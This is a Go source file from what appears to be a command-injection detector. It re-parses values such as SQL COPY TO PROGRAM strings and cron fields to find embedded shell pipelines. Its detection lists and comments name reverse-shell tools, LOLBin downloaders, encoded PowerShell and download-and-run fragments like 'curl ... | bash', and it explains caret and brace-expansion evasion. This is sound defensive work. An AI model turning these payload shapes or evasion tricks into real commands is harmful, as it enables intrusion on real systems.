package argument

import "strings"

// Embedded commands: a shell pipeline written inside a value that is not
// itself a command line — a SQL string passed to COPY ... TO PROGRAM, the
// command field of a cron entry, sed's e command, a media title that
// closes its quote and pipes into a shell. The value's head is not a
// command, so the tokenizer does not see one where it starts; reading the
// value again from each word that names a fetching, raw-network or shell
// program finds it. Only what is never ordinary in such a value counts
// (downloads run by a shell, reverse shells, decoded payloads run,
// LOLBin downloads, encoded PowerShell): a lone "curl" or "sh" in text is
// a word.

// embeddedStrong are the command-injection signals an embedded command
// may raise.
var embeddedStrong = set("command_injection.download_and_run", "command_injection.reverse_shell",
	"command_injection.decode_and_run", "command_injection.lolbin_download", "command_injection.encoded_powershell")

// embeddedStarts are the programs an embedded command is read from.
var embeddedStarts = func() map[string]bool {
	m := map[string]bool{}
	for _, s := range []map[string]bool{fetchCmds, rawNetCmds, shellCmds} {
		for k := range s {
			m[k] = true
		}
	}
	for _, k := range []string{"pwsh", "powershell.exe", "cmd.exe", "mkfifo", "certutil", "bitsadmin", "mshta", "regsvr32", "rundll32", "echo", "printf"} {
		m[k] = true
	}
	return m
}()

// embeddedGate are the words of strong patterns that need no pipe or
// substitution (nc -e, socat exec:, encoded or downloaded PowerShell,
// LOLBin downloads).
var embeddedGate = newAnchorSet(" -e ", "exec:", "-enc", "iex", "invoke-expression", "downloadstring", "-urlcache", "/transfer", "javascript:")

// maxEmbeddedStarts bounds the re-readings of one value.
const maxEmbeddedStarts = 8

// embeddedCommands reads s again from each word that starts a fetching,
// raw-network or shell command and adds the strong signals found, scaled
// by f. A start right after a quote is read up to the matching quote too
// (COPY ... TO PROGRAM 'curl ... | bash').
func (a *analysis) embeddedCommands(it *item, f float64) {
	s := it.s
	if strings.IndexByte(s, '^') >= 0 {
		s = decaret(s) // cmd.exe's escape: p^o^w^e^r^s^h^e^l^l is powershell
	}
	if len(s) > maxShellBytes || !hasPipeOrSubst(s) && !strings.Contains(s, "/dev/") && embeddedGate.scan(strings.ToLower(s)).none() {
		return
	}
	tried := 0
	for i := 0; i < len(s) && tried < maxEmbeddedStarts; i++ {
		if i > 0 && !embeddedBoundary(s[i-1]) {
			continue
		}
		j := i
		for j < len(s) && (isAlpha(s[j]) || s[j] == '.' || s[j] == '-' && j > i) {
			j++
		}
		if j == i && s[i] == '{' && i > 0 {
			// a command written as one brace expansion, which bash
			// expands before running it ({curl,-fsSL,http://x/t}|{bash,-s}:
			// a command line without spaces); resolve reads it
			k := i + 1
			for k < len(s) && (isAlpha(s[k]) || s[k] == '.' || s[k] == '-' && k > i+1) {
				k++
			}
			if k < len(s) && s[k] == ',' && embeddedStarts[strings.ToLower(s[i+1:k])] {
				tried++
				a.strongFrom(it, s[i:], f)
			}
			continue
		}
		if j == i || !embeddedStarts[strings.ToLower(s[i:j])] || j < len(s) && s[j] != ' ' && s[j] != '\t' {
			continue
		}
		if i == 0 {
			continue // the value's own head: the ordinary reading has it
		}
		tried++
		texts := []string{s[i:]}
		if q := s[i-1]; q == '\'' || q == '"' {
			if k := strings.IndexByte(s[i:], q); k > 0 {
				texts = append(texts, s[i:i+k])
			}
		}
		for _, t := range texts {
			a.strongFrom(it, t, f)
		}
	}
}

// strongFrom tokenizes t as a command line in a scratch analysis and
// adds its strong command-injection findings to a.
func (a *analysis) strongFrom(it *item, t string, f float64) {
	sub := &analysis{ctx: a.ctx, exec: a.exec, tool: a.tool, roots: a.roots, shellBudget: a.shellBudget,
		matchMem: a.matchMem, safeMemo: a.safeMemo, keyMemo: a.keyMemo}
	sc := sub.parseShell(t)
	sub.scriptSignals(it, sc, f, 0)
	a.shellBudget = sub.shellBudget
	a.trunc = a.trunc || sub.trunc
	a.matchMem, a.safeMemo = sub.matchMem, sub.safeMemo
	for _, fd := range sub.cmd.findings {
		if embeddedStrong[fd.Signal] {
			a.cmd.add(fd.Signal, fd.Field, fd.Span, fd.Weight)
		}
	}
}

// embeddedBoundary reports a byte after which a command may start.
func embeddedBoundary(c byte) bool {
	switch c {
	case ' ', '\t', '\n', '\'', '"', ';', '|', '&', '(', '`', '{', '=':
		return true
	}
	return false
}

// hasPipeOrSubst reports a pipe, a substitution or a process
// substitution in s.
func hasPipeOrSubst(s string) bool {
	return strings.ContainsAny(s, "|`") || strings.Contains(s, "$(") || strings.Contains(s, "<(")
}

// decaret removes cmd.exe's escape character between two letters or
// digits ("p^o^w^e^r^s^h^e^l^l" is powershell to cmd, a way past filters
// that look for the name); other carets stay.
func decaret(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); i++ {
		if s[i] == '^' && i > 0 && i+1 < len(s) && isAlnum(s[i-1]) && isAlnum(s[i+1]) {
			continue
		}
		b.WriteByte(s[i])
	}
	return b.String()
}

func isAlnum(c byte) bool { return isAlpha(c) || '0' <= c && c <= '9' }
